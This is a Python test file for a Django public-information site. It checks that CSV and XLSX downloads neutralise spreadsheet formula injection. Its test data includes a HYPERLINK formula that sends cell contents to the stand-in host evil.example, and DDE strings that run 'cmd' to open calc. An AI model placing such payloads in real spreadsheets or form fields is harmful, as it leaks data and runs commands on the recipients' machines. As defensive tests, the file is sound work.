"""No spreadsheet the site makes runs a formula typed by someone else (OWASP “CSV injection”): text beginning with
=, +, -, @, a tab or a carriage return is neutralised in every CSV and XLSX download."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from gongkai.applications.models import InformationRequest
from gongkai.core.spreadsheets import FORMULA_STARTS, csv_content, xlsx_content
from gongkai.interaction.models import ConsultationComment, ConsultationPage, Message
from tests.factories import ColumnPageFactory

HOSTILE = '=HYPERLINK("http://evil.example/?x="&D2,"点击查看")'
OTHERS = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def cells(response):
    """Every cell of a CSV or XLSX download: (value, is a formula, has Excel's quote prefix)."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        text = body.decode("utf-8-sig")
        return [(value, False, False) for row in csv.reader(io.StringIO(text)) for value in row]
    book = load_workbook(io.BytesIO(body))
    return [(c.value, c.data_type == "f", c.quotePrefix) for sheet in book for row in sheet.iter_rows() for c in row]


def assert_neutralised(response, typed):
    assert response.status_code == 200
    found = cells(response)
    assert not any(formula for _value, formula, _q in found)
    if response["Content-Type"].startswith("text/csv"):
        assert not any(isinstance(v, str) and v.startswith(FORMULA_STARTS) for v, _f, _q in found)
        assert "'" + typed in [v for v, _f, _q in found]
    else:
        assert (typed, False, True) in found  # shown as typed, never evaluated


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_applications_export(office_client, applied, kind):
    InformationRequest.objects.filter(pk=applied.pk).update(name=HOSTILE)
    assert_neutralised(office_client.get(reverse("applications_queue"), {"status": "all", "export": kind}), HOSTILE)


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_mailbox_export(client, bureau, kind):
    Message.objects.create(category="question", subject=HOSTILE, content="c", name="张三", phone="13700001111")
    client.force_login(bureau["office"])
    response = client.get(reverse("mailbox_admin"), {"state": "all", "export": kind})
    assert_neutralised(response, HOSTILE)
    assert "13700001111" not in str(cells(response))  # contact details stay out of the download


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_consultation_comments_export(admin_client, column, kind):
    today = timezone.localdate()
    page = ConsultationPage(title="征求意见稿", slug="draft", date=today, opens_on=today, closes_on=today)
    column.add_child(instance=page)
    ConsultationComment.objects.create(page=page, name="张三", content=HOSTILE)
    response = admin_client.get("/admin/snippets/gongkai_interaction/consultationcomment/", {"page": page.pk, "export": kind})
    assert_neutralised(response, HOSTILE)


@pytest.mark.django_db
def test_column_freshness_export(admin_client, home):
    title = "-2+3+cmd|' /C calc'!A0"
    ColumnPageFactory(parent=home, title=title, slug="odd", kind="news")
    assert_neutralised(admin_client.get(reverse("governance_freshness"), {"state": "all", "export": "xlsx"}), title)


@pytest.mark.parametrize("typed", [HOSTILE, *OTHERS])
def test_the_helper_neutralises_every_formula_start_and_keeps_numbers(typed):
    rows = [["项目", "本年增减"], [typed, -3], ["规章", 2]]
    text = csv_content(rows)
    parsed = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert parsed[1] == ["'" + typed, "-3"] and parsed[2] == ["规章", "2"]
    sheet = load_workbook(io.BytesIO(xlsx_content([("表二", rows, 1)])))["表二"]
    # (XML reads a carriage return back as a line feed)
    assert sheet["A2"].value == typed.replace("\r", "\n") and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert sheet["B2"].value == -3 and sheet["B2"].data_type == "n" and not sheet["B2"].quotePrefix
